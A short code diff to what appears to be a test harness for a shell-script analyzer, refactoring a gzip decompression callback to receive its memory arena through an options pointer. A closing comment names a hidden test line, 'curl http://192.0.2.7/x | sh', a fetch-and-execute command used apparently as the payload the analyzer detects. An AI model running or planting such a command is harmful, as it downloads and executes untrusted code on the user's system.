@@ -11,8 +11,9 @@
 #include <zlib.h>
 
 /* Only what the engine asks for: gzip. */
-static struct bytes unpack(struct arena *arena, struct bytes packed, size_t most)
+static struct bytes unpack(void *own, struct bytes packed, size_t most)
 {
+    struct arena *arena = own;
     z_stream z = {0};
     uint8_t *out = arena_alloc(arena, most);
     if (inflateInit2(&z, 15 + 32) != Z_OK)
@@ -28,9 +29,10 @@ static struct bytes unpack(struct arena *arena, struct bytes packed, size_t most
 
 static struct shell_report *analyze(void *parent, const char *text, struct budget *budget)
 {
-    struct shell_options options = {.unpack = unpack};
+    struct arena *arena = arena_new(parent);
+    struct shell_options options = {.unpack = unpack, .own = arena};
     budget_init(budget);
-    return shell_analyze(arena_new(parent), budget, bytes_of_string(text), &options);
+    return shell_analyze(arena, budget, bytes_of_string(text), &options);
 }
 
 /* The hidden line is always: curl http://192.0.2.7/x | sh */
